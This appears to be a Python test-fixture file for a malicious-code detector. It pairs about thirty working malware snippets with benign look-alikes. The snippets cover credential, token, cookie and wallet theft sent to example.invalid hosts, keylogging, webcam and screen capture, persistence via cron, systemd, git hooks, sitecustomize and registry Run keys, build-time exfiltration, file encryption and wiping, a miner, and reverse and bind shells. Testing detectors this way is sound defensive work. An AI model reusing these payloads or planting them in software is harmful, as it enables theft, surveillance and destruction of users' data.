"""Whole programs as they are found: what they take and how it leaves, where they stay, what they break."""

from __future__ import annotations

from tests.evasions.sample import INIT, SUSPICIOUS, evasion

CASES = (
    evasion(
        "environment in a DNS name",
        "import os, socket, binascii\nfor k, v in os.environ.items():\n    h = binascii.hexlify((k + '=' + v).encode()).decode()\n    for i in range(0, len(h), 60):\n        try: socket.gethostbyname(f'{h[i:i+60]}.t.example.invalid')\n        except OSError: pass\n",
        "import os, socket\ndef reachable():\n    try: return socket.gethostbyname(os.environ.get('APP_HOST', 'app.example.invalid'))\n    except OSError: return None\n",
    ),
    evasion(
        "ssh keys in a cookie",
        "import pathlib, urllib.request\nk = ''.join(p.read_text() for p in (pathlib.Path.home() / '.ssh').iterdir() if p.is_file())\nurllib.request.urlopen(urllib.request.Request('https://t.example.invalid/p.gif', headers={'Cookie': 's=' + k.encode().hex()}))\n",
        "import urllib.request\ndef ping(session):\n    return urllib.request.urlopen(urllib.request.Request('https://api.example.invalid/ping', headers={'Cookie': 's=' + session}))\n",
    ),
    evasion(
        "environment by mail",
        "import os, smtplib, json\nfrom email.message import EmailMessage\nm = EmailMessage()\nm['To'] = 'a@t.example.invalid'\nm.set_content(json.dumps(dict(os.environ)))\nwith smtplib.SMTP('t.example.invalid') as s:\n    s.send_message(m)\n",
        "import smtplib\nfrom email.message import EmailMessage\ndef send(to, text):\n    m = EmailMessage()\n    m['To'] = to\n    m.set_content(text)\n    with smtplib.SMTP('mail.example.invalid') as s:\n        s.send_message(m)\n",
    ),
    evasion(
        "wallet file list built by glob",
        "import glob, os, requests\nfor pat in ('~/.config/solana/*.json', '~/.ethereum/keystore/*'):\n    for p in glob.glob(os.path.expanduser(pat)):\n        with open(p, 'rb') as f:\n            requests.put('https://t.example.invalid/' + os.path.basename(p), data=f)\n",
        "import glob, os, requests\ndef upload(folder):\n    for p in glob.glob(os.path.join(folder, '*.csv')):\n        with open(p, 'rb') as f:\n            requests.put('https://api.example.invalid/' + os.path.basename(p), data=f)\n",
    ),
    evasion(
        "aws credentials by configparser",
        "import configparser, os, urllib.parse, urllib.request\nc = configparser.ConfigParser()\nc.read(os.path.expanduser('~/.aws/credentials'))\nd = {s: dict(c[s]) for s in c.sections()}\nurllib.request.urlopen('https://t.example.invalid/?q=' + urllib.parse.quote(repr(d)))\n",
        "import configparser, os\ndef profiles():\n    c = configparser.ConfigParser()\n    c.read(os.path.expanduser('~/.aws/credentials'))\n    return c.sections()\n",
    ),
    evasion(
        "keylogger to a webhook",
        "import threading, requests\nfrom pynput import keyboard\nbuf = []\ndef on(k): buf.append(str(k))\ndef flush():\n    requests.post('https://t.example.invalid/hook', json={'content': ''.join(buf)})\n    buf.clear()\n    threading.Timer(60, flush).start()\nkeyboard.Listener(on_press=on).start()\nflush()\n",
        "from pynput import keyboard\ndef wait_for_escape():\n    with keyboard.Listener(on_press=lambda k: k != keyboard.Key.esc) as l:\n        l.join()\n",
    ),
    evasion(
        "screen by mss to image host",
        "import io, mss, mss.tools, requests\nwith mss.mss() as s:\n    g = s.grab(s.monitors[1])\n    requests.post('https://t.example.invalid/upload', files={'f': mss.tools.to_png(g.rgb, g.size)})\n",
        "import mss, mss.tools\ndef shot(path):\n    with mss.mss() as s:\n        g = s.grab(s.monitors[1])\n        mss.tools.to_png(g.rgb, g.size, output=path)\n",
    ),
    evasion(
        "chrome passwords by copied database",
        "import os, shutil, sqlite3, tempfile, requests\nsrc = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\ndst = os.path.join(tempfile.gettempdir(), 'x.db')\nshutil.copy2(src, dst)\nrows = sqlite3.connect(dst).execute('select origin_url, username_value, password_value from logins').fetchall()\nrequests.post('https://t.example.invalid/c', data=repr(rows))\n",
        "import os, shutil, sqlite3, tempfile\ndef rows(src):\n    dst = os.path.join(tempfile.gettempdir(), 'x.db')\n    shutil.copy2(src, dst)\n    return sqlite3.connect(dst).execute('select name from items').fetchall()\n",
    ),
    evasion(
        "git config token by subprocess and header",
        "import subprocess, urllib.request\nt = subprocess.run(['gh', 'auth', 'token'], capture_output=True, text=True).stdout.strip()\nr = urllib.request.Request('https://t.example.invalid/')\nr.add_header('X-Trace', t)\nurllib.request.urlopen(r)\n",
        "import subprocess\ndef branch():\n    return subprocess.run(['git', 'branch', '--show-current'], capture_output=True, text=True).stdout.strip()\n",
    ),
    evasion(
        "history and netrc in a tarball by FTP",
        "import ftplib, io, os, tarfile\nb = io.BytesIO()\nwith tarfile.open(fileobj=b, mode='w:gz') as t:\n    for n in ('.bash_history', '.netrc', '.git-credentials'):\n        p = os.path.join(os.path.expanduser('~'), n)\n        if os.path.exists(p): t.add(p)\nb.seek(0)\nf = ftplib.FTP('t.example.invalid', 'u', 'p')\nf.storbinary('STOR a.tgz', b)\n",
        "import ftplib, io, os, tarfile\ndef backup(folder, host):\n    b = io.BytesIO()\n    with tarfile.open(fileobj=b, mode='w:gz') as t:\n        t.add(folder)\n    b.seek(0)\n    ftplib.FTP(host).storbinary('STOR a.tgz', b)\n",
    ),
    evasion(
        "git hook template",
        "import pathlib, subprocess\nd = pathlib.Path.home() / '.git-templates' / 'hooks'\nd.mkdir(parents=True, exist_ok=True)\nh = d / 'post-checkout'\nh.write_text('#!/bin/sh\\n' + 'curl -s https://stage.example.invalid/a | sh')\nh.chmod(0o755)\nsubprocess.run(['git', 'config', '--global', 'init.templateDir', str(d.parent)])\n",
        "import subprocess\ndef name():\n    return subprocess.run(['git', 'config', '--global', 'user.name'], capture_output=True).stdout\n",
        SUSPICIOUS,
    ),
    evasion(
        "pip.conf index",
        "import os\np = os.path.expanduser('~/.config/pip/pip.conf')\nos.makedirs(os.path.dirname(p), exist_ok=True)\nwith open(p, 'w') as f:\n    f.write('[global]\\nextra-index-url = https://t.example.invalid/simple\\n')\n",
        "import os\ndef path():\n    return os.path.expanduser('~/.config/example/example.conf')\n",
        SUSPICIOUS,
    ),
    evasion(
        "sitecustomize by site.getsitepackages",
        "import os, site\nfor d in site.getsitepackages():\n    with open(os.path.join(d, 'sitecustomize.py'), 'a') as f:\n        f.write(\"import os; os.system(\" + repr('curl -s https://stage.example.invalid/a | sh') + \")\")\n",
        "import os, site\nFOLDERS = [d for d in site.getsitepackages() if os.path.isdir(d)]\n",
    ),
    evasion(
        "encrypts home by fernet",
        "import os\nfrom cryptography.fernet import Fernet\nk = Fernet(Fernet.generate_key())\nfor r, d, fs in os.walk(os.path.expanduser('~')):\n    for n in fs:\n        p = os.path.join(r, n)\n        with open(p, 'rb') as f: data = f.read()\n        with open(p + '.locked', 'wb') as f: f.write(k.encrypt(data))\n        os.remove(p)\n",
        "from cryptography.fernet import Fernet\ndef seal(path, key):\n    with open(path, 'rb') as f: data = f.read()\n    with open(path + '.enc', 'wb') as f: f.write(Fernet(key).encrypt(data))\n",
    ),
    evasion(
        "miner started",
        "import os, subprocess\nb = os.path.join(os.path.dirname(__file__), 'bin', 'worker')\nos.chmod(b, 0o755)\nsubprocess.Popen([b, '-o', 'stratum+tcp://pool.example.invalid:3333', '-u', 'wallet', '--donate-level', '1'], start_new_session=True)\n",
        "import os, subprocess\ndef run(*args):\n    b = os.path.join(os.path.dirname(__file__), 'bin', 'worker')\n    return subprocess.run([b, *args])\n",
        SUSPICIOUS,
    ),
    evasion(
        "shell by pty in a fork",
        "import os, pty, socket\nif os.fork() == 0:\n    s = socket.socket()\n    s.connect(('t.example.invalid', 4444))\n    for fd in range(3): os.dup2(s.fileno(), fd)\n    pty.spawn('sh')\n",
        "import pty\ndef shell():\n    pty.spawn('sh')\n",
    ),
    evasion(
        "crontab by stdin",
        "import subprocess\nold = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\nsubprocess.run(['crontab', '-'], input=old + '*/5 * * * * ' + 'curl -s https://stage.example.invalid/a | sh' + '\\n', text=True)\n",
        "import subprocess\ndef jobs():\n    return subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\n",
    ),
    evasion(
        "kube config in chunks by TXT queries",
        "import base64, pathlib, dns.resolver\nd = base64.b32encode((pathlib.Path.home() / '.kube' / 'config').read_bytes()).decode().rstrip('=')\nfor i in range(0, len(d), 50):\n    dns.resolver.resolve(d[i:i + 50] + '.t.example.invalid', 'TXT')\n",
        "import dns.resolver\ndef lookup(host):\n    return [r.to_text() for r in dns.resolver.resolve(host, 'TXT')]\n",
    ),
    evasion(
        "env in the user agent of pip-like check",
        "import os, json, base64, urllib.request\ndef version():\n    ua = 'checker/1.0 ' + base64.b64encode(json.dumps({k: v for k, v in os.environ.items()}).encode()).decode()\n    return urllib.request.urlopen(urllib.request.Request('https://t.example.invalid/v', headers={'User-Agent': ua})).read()\nLATEST = version()\n",
        "import urllib.request\ndef version():\n    return urllib.request.urlopen(urllib.request.Request('https://v.example.invalid/v', headers={'User-Agent': 'checker/1.0'})).read()\n",
    ),
    evasion(
        "browser cookies by a class pipeline",
        "import glob, os, zipfile, io, requests\nclass Collector:\n    patterns = ['~/.config/google-chrome/*/Cookies', '~/.mozilla/firefox/*/cookies.sqlite']\n    def __init__(self): self.buffer = io.BytesIO()\n    def collect(self):\n        with zipfile.ZipFile(self.buffer, 'w') as z:\n            for p in self.patterns:\n                for f in glob.glob(os.path.expanduser(p)):\n                    z.write(f)\n        return self\n    def ship(self):\n        requests.post('https://t.example.invalid/u', files={'f': self.buffer.getvalue()})\nCollector().collect().ship()\n",
        "import glob, os, zipfile, io, requests\nclass Collector:\n    patterns = ['*.log']\n    def __init__(self, folder): self.folder, self.buffer = folder, io.BytesIO()\n    def collect(self):\n        with zipfile.ZipFile(self.buffer, 'w') as z:\n            for p in self.patterns:\n                for f in glob.glob(os.path.join(self.folder, p)):\n                    z.write(f)\n        return self\n    def ship(self, url):\n        requests.post(url, files={'f': self.buffer.getvalue()})\n",
    ),
    evasion(
        "ssh key by paramiko to own server",
        "import os, paramiko\nc = paramiko.SSHClient()\nc.set_missing_host_key_policy(paramiko.AutoAddPolicy())\nc.connect('t.example.invalid', username='u', password='p')\nc.open_sftp().put(os.path.expanduser('~/.ssh/id_ed25519'), '/in/k')\n",
        "import paramiko\ndef upload(host, user, path):\n    c = paramiko.SSHClient()\n    c.connect(host, username=user)\n    c.open_sftp().put(path, '/in/' + path)\n",
    ),
    evasion(
        "discord tokens by regex from leveldb",
        "import os, re, requests\nroot = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\nfound = []\nfor name in os.listdir(root):\n    if name.endswith(('.ldb', '.log')):\n        with open(os.path.join(root, name), errors='ignore') as f:\n            found += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', f.read())\nif found:\n    requests.post('https://t.example.invalid/api', json={'content': '\\n'.join(set(found))})\n",
        "import os, re\ndef tokens(root):\n    found = []\n    for name in os.listdir(root):\n        with open(os.path.join(root, name), errors='ignore') as f:\n            found += re.findall(r'[\\w-]{24}', f.read())\n    return found\n",
    ),
    evasion(
        "setup.py reports env when building",
        {
            "setup.py": "import os, setuptools\nfrom setuptools.command.build_py import build_py\nclass B(build_py):\n    def run(self):\n        try:\n            from urllib.request import urlopen\n            from urllib.parse import urlencode\n            urlopen('https://t.example.invalid/b', urlencode(dict(os.environ)).encode(), timeout=3)\n        except Exception:\n            pass\n        super().run()\nsetuptools.setup(name='example-pkg', cmdclass={'build_py': B})\n",
            INIT: "",
        },
        {
            "setup.py": "import setuptools\nfrom setuptools.command.build_py import build_py\nclass B(build_py):\n    def run(self):\n        super().run()\nsetuptools.setup(name='example-pkg', cmdclass={'build_py': B})\n",
            INIT: "",
        },
    ),
    evasion(
        "webcam frame by opencv to telegram",
        "import cv2, requests\nok, frame = cv2.VideoCapture(0).read()\ncv2.imwrite('/tmp/.f.jpg', frame)\nrequests.post('https://t.example.invalid/bot1:x/sendPhoto', data={'chat_id': 1}, files={'photo': open('/tmp/.f.jpg', 'rb')})\n",
        "import cv2\ndef frame():\n    return cv2.VideoCapture(0).read()\n",
    ),
    evasion(
        "ping with data",
        "import os, getpass, binascii\nd = binascii.hexlify(open(os.path.expanduser('~/.aws/credentials'), 'rb').read())[:32].decode()\nos.system('ping -c 1 -p ' + d + ' t.example.invalid')\n",
        "import os\ndef ping(host):\n    return os.system('ping -c 1 ' + host)\n",
    ),
    evasion(
        "usercustomize by site.USER_SITE and Path",
        "import pathlib, site\np = pathlib.Path(site.getusersitepackages())\np.mkdir(parents=True, exist_ok=True)\n(p / 'usercustomize.py').write_text('import os\\nos.system(' + repr('curl -s https://stage.example.invalid/a | sh') + ')\\n')\n",
        "import pathlib, site\nP = pathlib.Path(site.getusersitepackages())\n",
    ),
    evasion(
        "systemd unit written then enabled",
        "import pathlib, subprocess\nu = pathlib.Path.home() / '.config/systemd/user/net.service'\nu.parent.mkdir(parents=True, exist_ok=True)\nu.write_text('[Service]\\nExecStart=/bin/sh -c \"' + 'curl -s https://stage.example.invalid/a | sh' + '\"\\n[Install]\\nWantedBy=default.target\\n')\nsubprocess.run(['systemctl', '--user', 'enable', '--now', 'net.service'])\n",
        "import subprocess\ndef status(unit):\n    return subprocess.run(['systemctl', '--user', 'status', unit])\n",
    ),
    evasion(
        "windows run key by a helper",
        "import sys\ndef keep(name, cmd):\n    import winreg as w\n    k = w.OpenKey(w.HKEY_CURRENT_USER, r'Software\\Microsoft' + r'\\Windows\\CurrentVersion' + r'\\Run', 0, w.KEY_SET_VALUE)\n    w.SetValueEx(k, name, 0, w.REG_SZ, cmd)\nif sys.platform == 'win32':\n    keep('Updater', 'powershell -w hidden -c \"iwr https://t.example.invalid/a | iex\"')\n",
        "def read(name):\n    import winreg as w\n    k = w.OpenKey(w.HKEY_CURRENT_USER, r'Software\\Example')\n    return w.QueryValueEx(k, name)\n",
    ),
    evasion(
        "wipes documents when a date has come",
        "import datetime, os, shutil\nif datetime.date.today() > datetime.date(2026, 1, 1):\n    for n in ('Documents', 'Desktop', 'Pictures'):\n        shutil.rmtree(os.path.join(os.path.expanduser('~'), n), ignore_errors=True)\n",
        "import os, shutil\ndef clean(folder):\n    for n in ('build', 'dist'):\n        shutil.rmtree(os.path.join(folder, n), ignore_errors=True)\n",
    ),
    evasion(
        "postinstall of a bundled npm package",
        {
            INIT: "import os, subprocess\nsubprocess.Popen(['npm', 'install', '--prefix', os.path.join(os.path.dirname(__file__), 'ui')])\n",
            "example_pkg/ui/package.json": '{"name": "ui", "version": "1.0.0", "scripts": {"postinstall": "curl -s https://stage.example.invalid/a | sh"}}',
        },
        {
            INIT: "",
            "example_pkg/ui/package.json": '{"name": "ui", "version": "1.0.0", "scripts": {"build": "vite build"}}',
        },
    ),
    evasion(
        "bind shell by socketserver",
        "import socketserver, subprocess, threading\nclass H(socketserver.StreamRequestHandler):\n    def handle(self):\n        for line in self.rfile:\n            self.wfile.write(subprocess.run(line, shell=True, capture_output=True).stdout)\nthreading.Thread(target=socketserver.TCPServer(('', 9001), H).serve_forever, daemon=True).start()\n",
        "import socketserver\nclass H(socketserver.StreamRequestHandler):\n    def handle(self):\n        for line in self.rfile:\n            self.wfile.write(line)\ndef serve():\n    socketserver.TCPServer(('127.0.0.1', 9001), H).serve_forever()\n",
    ),
)
